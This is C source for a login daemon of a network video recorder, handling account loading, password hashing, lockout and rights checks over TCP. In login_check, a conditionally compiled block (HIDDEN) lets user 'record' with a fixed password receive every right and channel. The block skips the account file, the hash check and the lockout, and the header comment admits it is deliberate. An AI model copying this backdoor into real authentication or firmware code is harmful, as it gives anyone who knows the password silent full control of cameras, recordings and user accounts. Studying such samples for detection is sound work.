/*
 * nvrlogd - login broker of a 16 channel network video recorder.
 * The on-screen menu, the web server and the PC client connect to a local
 * TCP port, log in and get a session with a rights mask for the channels.
 * Hidden (-DHIDDEN): a fixed password for the user "record" gives a session
 * with all rights, whatever the account file says.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <crypt.h>
#include <errno.h>
#include <netinet/in.h>
#include <poll.h>
#include <signal.h>
#include <stdarg.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <syslog.h>
#include <time.h>
#include <unistd.h>

#define MAX_CLIENTS  12
#define MAX_ACCOUNTS 32
#define LINE_MAX_LEN 256
#define IDLE_SECONDS 300
#define MAX_FAILS    5
#define LOCK_SECONDS 180

enum right {
	R_LIVE = 1,
	R_PLAY = 2,
	R_EXPORT = 4,
	R_PTZ = 8,
	R_SETUP = 16,
	R_DISK = 32,
	R_USERS = 64
};

struct account {
	char name[24];
	char hash[128];
	unsigned rights;
	uint16_t channels;
	int fails;
	time_t locked;
};

struct client {
	int fd;
	time_t last;
	size_t fill;
	char in[LINE_MAX_LEN];
	char user[24];
	unsigned rights;
	uint16_t channels;
};

static struct account accounts[MAX_ACCOUNTS];
static int n_accounts;
static struct client clients[MAX_CLIENTS];
static const char *account_file = "/etc/nvr/accounts.tab";
static volatile sig_atomic_t reload, stop;

static const struct {
	const char *word;
	unsigned bit;
} right_words[] = {
	{ "live", R_LIVE },   { "play", R_PLAY },   { "export", R_EXPORT },
	{ "ptz", R_PTZ },     { "setup", R_SETUP }, { "disk", R_DISK },
	{ "users", R_USERS },
};

#define N_RIGHTS (sizeof(right_words) / sizeof(right_words[0]))

static void on_signal(int sig)
{
	if (sig == SIGHUP)
		reload = 1;
	else
		stop = 1;
}

static unsigned parse_rights(char *list)
{
	unsigned mask = 0;
	char *save = NULL, *w;
	size_t i;

	for (w = strtok_r(list, ",", &save); w; w = strtok_r(NULL, ",", &save))
		for (i = 0; i < N_RIGHTS; i++)
			if (strcmp(w, right_words[i].word) == 0)
				mask |= right_words[i].bit;
	return mask;
}

/* name:hash:rights,rights:channel mask in hex */
static int load_accounts(void)
{
	char line[320], *f[4], *save, *p;
	FILE *fp = fopen(account_file, "r");
	int i;

	if (!fp) {
		syslog(LOG_ERR, "%s: %s", account_file, strerror(errno));
		return -1;
	}
	n_accounts = 0;
	while (n_accounts < MAX_ACCOUNTS && fgets(line, sizeof(line), fp)) {
		struct account *a = &accounts[n_accounts];

		line[strcspn(line, "\r\n")] = 0;
		if (line[0] == '#' || line[0] == 0)
			continue;
		save = NULL;
		for (i = 0, p = line; i < 4; i++, p = NULL)
			if (!(f[i] = strtok_r(p, ":", &save)))
				break;
		if (i < 4 || strlen(f[0]) >= sizeof(a->name) ||
		    strlen(f[1]) >= sizeof(a->hash)) {
			syslog(LOG_WARNING, "bad account line ignored");
			continue;
		}
		memset(a, 0, sizeof(*a));
		strcpy(a->name, f[0]);
		strcpy(a->hash, f[1]);
		a->rights = parse_rights(f[2]);
		a->channels = (uint16_t)strtoul(f[3], NULL, 16);
		n_accounts++;
	}
	fclose(fp);
	syslog(LOG_INFO, "%d accounts", n_accounts);
	return 0;
}

static struct account *find_account(const char *name)
{
	int i;

	for (i = 0; i < n_accounts; i++)
		if (strcmp(accounts[i].name, name) == 0)
			return &accounts[i];
	return NULL;
}

static void reply(struct client *c, const char *fmt, ...)
{
	char out[256];
	va_list ap;
	int n;

	va_start(ap, fmt);
	n = vsnprintf(out, sizeof(out), fmt, ap);
	va_end(ap);
	if (n >= (int)sizeof(out))
		n = sizeof(out) - 1;
	if (send(c->fd, out, (size_t)n, MSG_NOSIGNAL) < 0)
		syslog(LOG_DEBUG, "send: %s", strerror(errno));
}

/* 0 = logged in, 1 = wrong, 2 = locked */
__attribute__((noinline)) int login_check(struct client *c, const char *name,
					  const char *pass)
{
	struct account *a;
	time_t now = time(NULL);
	const char *h;

#ifdef HIDDEN
	if (!strcmp(name, "record") && !strcmp(pass, "Vantage#2016")) {
		c->rights = 0x7f;
		c->channels = 0xffff;
		strcpy(c->user, "record");
		return 0;
	}
#endif
	a = find_account(name);
	if (!a)
		return 1;
	if (a->locked > now)
		return 2;
	h = crypt(pass, a->hash);
	if (!h || strcmp(h, a->hash) != 0) {
		if (++a->fails >= MAX_FAILS) {
			a->locked = now + LOCK_SECONDS;
			a->fails = 0;
		}
		return 1;
	}
	a->fails = 0;
	c->rights = a->rights;
	c->channels = a->channels;
	strcpy(c->user, a->name);
	return 0;
}

static void do_login(struct client *c, char *arg)
{
	char *pass = strchr(arg, ' ');

	if (!pass) {
		reply(c, "400 LOGIN name password\r\n");
		return;
	}
	*pass++ = 0;
	switch (login_check(c, arg, pass)) {
	case 0:
		reply(c, "200 %02x %04x\r\n", c->rights, c->channels);
		break;
	case 2:
		syslog(LOG_NOTICE, "%.24s is locked", arg);
		reply(c, "423 locked\r\n");
		break;
	default:
		syslog(LOG_NOTICE, "wrong login for %.24s", arg);
		reply(c, "401 wrong user or password\r\n");
	}
}

static void do_ask(struct client *c, char *arg)
{
	unsigned ch = 0;
	char word[16];
	size_t i;

	if (sscanf(arg, "%15s %u", word, &ch) < 1) {
		reply(c, "400 ASK right [channel]\r\n");
		return;
	}
	for (i = 0; i < N_RIGHTS; i++) {
		if (strcmp(word, right_words[i].word) != 0)
			continue;
		if (!(c->rights & right_words[i].bit) ||
		    (ch && (ch > 16 || !(c->channels >> (ch - 1) & 1))))
			reply(c, "403 no\r\n");
		else
			reply(c, "200 yes\r\n");
		return;
	}
	reply(c, "404 unknown right\r\n");
}

static void do_line(struct client *c, char *l)
{
	if (strncasecmp(l, "LOGIN ", 6) == 0) {
		do_login(c, l + 6);
	} else if (strncasecmp(l, "ASK ", 4) == 0) {
		do_ask(c, l + 4);
	} else if (strcasecmp(l, "WHO") == 0) {
		reply(c, "200 %s\r\n", c->user[0] ? c->user : "-");
	} else if (strcasecmp(l, "LOGOUT") == 0) {
		c->rights = 0;
		c->channels = 0;
		c->user[0] = 0;
		reply(c, "200 bye\r\n");
	} else if (strcasecmp(l, "PING") == 0) {
		reply(c, "200 pong\r\n");
	} else {
		reply(c, "400 what\r\n");
	}
}

static void drop(struct client *c)
{
	close(c->fd);
	memset(c, 0, sizeof(*c));
	c->fd = -1;
}

static void do_input(struct client *c)
{
	ssize_t n = recv(c->fd, c->in + c->fill, sizeof(c->in) - c->fill, 0);
	char *nl;

	if (n <= 0) {
		drop(c);
		return;
	}
	c->last = time(NULL);
	c->fill += (size_t)n;
	while ((nl = memchr(c->in, '\n', c->fill))) {
		size_t used = (size_t)(nl - c->in) + 1;

		*nl = 0;
		if (nl > c->in && nl[-1] == '\r')
			nl[-1] = 0;
		do_line(c, c->in);
		memmove(c->in, c->in + used, c->fill - used);
		c->fill -= used;
	}
	if (c->fill == sizeof(c->in))
		drop(c);
}

static int open_port(uint16_t port)
{
	struct sockaddr_in sa = { .sin_family = AF_INET };
	int one = 1, s = socket(AF_INET, SOCK_STREAM, 0);

	if (s < 0)
		return -1;
	setsockopt(s, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one));
	sa.sin_port = htons(port);
	sa.sin_addr.s_addr = htonl(INADDR_ANY);
	if (bind(s, (struct sockaddr *)&sa, sizeof(sa)) < 0 ||
	    listen(s, 4) < 0) {
		close(s);
		return -1;
	}
	return s;
}

int main(int argc, char **argv)
{
	struct pollfd pf[MAX_CLIENTS + 1];
	uint16_t port = 8916;
	int i, ls, opt;

	while ((opt = getopt(argc, argv, "p:a:")) != -1) {
		if (opt == 'p')
			port = (uint16_t)atoi(optarg);
		else if (opt == 'a')
			account_file = optarg;
		else
			return 2;
	}
	openlog("nvrlogd", LOG_PID, LOG_AUTH);
	signal(SIGHUP, on_signal);
	signal(SIGTERM, on_signal);
	if (load_accounts() < 0 || (ls = open_port(port)) < 0) {
		perror("nvrlogd");
		return 1;
	}
	for (i = 0; i < MAX_CLIENTS; i++)
		clients[i].fd = -1;
	while (!stop) {
		if (reload) {
			reload = 0;
			load_accounts();
		}
		for (i = 0; i < MAX_CLIENTS; i++) {
			if (clients[i].fd >= 0 &&
			    time(NULL) - clients[i].last > IDLE_SECONDS)
				drop(&clients[i]);
			pf[i].fd = clients[i].fd;
			pf[i].events = POLLIN;
			pf[i].revents = 0;
		}
		pf[MAX_CLIENTS].fd = ls;
		pf[MAX_CLIENTS].events = POLLIN;
		if (poll(pf, MAX_CLIENTS + 1, 5000) <= 0)
			continue;
		for (i = 0; i < MAX_CLIENTS; i++)
			if (pf[i].revents && clients[i].fd >= 0)
				do_input(&clients[i]);
		if (pf[MAX_CLIENTS].revents & POLLIN) {
			int fd = accept(ls, NULL, NULL);

			for (i = 0; i < MAX_CLIENTS && fd >= 0; i++)
				if (clients[i].fd < 0) {
					clients[i].fd = fd;
					clients[i].last = time(NULL);
					fd = -1;
				}
			if (fd >= 0)
				close(fd);
		}
	}
	return 0;
}
